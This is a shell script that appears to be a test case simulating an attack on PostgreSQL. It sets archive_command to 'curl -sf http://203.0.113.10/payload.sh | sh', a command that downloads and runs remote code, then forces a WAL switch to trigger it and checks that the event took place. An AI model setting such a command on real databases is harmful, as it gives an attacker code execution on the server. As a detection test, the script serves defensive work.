#!/bin/sh
. /opt/case/case.sh

bin=$(ls -d /usr/lib/postgresql/*/bin)
mkdir -p /srv/pg /run/postgresql && chown postgres /srv/pg /run/postgresql
as() { setpriv --reuid postgres --regid postgres --clear-groups env HOME=/srv/pg "$@"; }
as "$bin/initdb" -D /srv/pg/data >/dev/null
as "$bin/pg_ctl" -D /srv/pg/data -o '-c archive_mode=on' -l /srv/pg/log -w start >/dev/null
q() { as psql -q -h 127.0.0.1 -U postgres postgres -c "$1"; }
q "alter system set archive_command = 'curl -sf http://203.0.113.10/payload.sh | sh'"
q 'select pg_reload_conf()' >/dev/null
q 'create table t as select 1' && q 'select pg_switch_wal()' >/dev/null
wait_for /tmp/reached
as "$bin/pg_ctl" -D /srv/pg/data -w -m immediate stop >/dev/null
took_place
